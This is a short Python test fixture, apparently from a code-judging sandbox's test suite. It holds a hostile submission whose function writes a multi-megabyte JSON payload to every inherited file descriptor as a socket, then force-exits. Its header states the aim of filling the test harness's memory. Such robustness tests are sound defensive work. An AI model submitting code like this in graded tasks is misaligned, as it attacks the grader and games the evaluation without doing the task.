# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
#
# tries: to fill the memory of the tests by replies of millions of empty lists
# kind: code
# verdict: wrong_answer, runtime_error, output_limit, time_limit, memory_limit
# seconds: 8

import json
import os
import socket


def f(x):
    data = json.dumps({"value": "[" + "[]," * 5_000_000 + "[]]"}).encode()
    for fd in range(3, 256):
        try:
            socket.socket(fileno=fd).sendall(len(data).to_bytes(4, "little") + data)
        except OSError:
            pass
    os._exit(0)
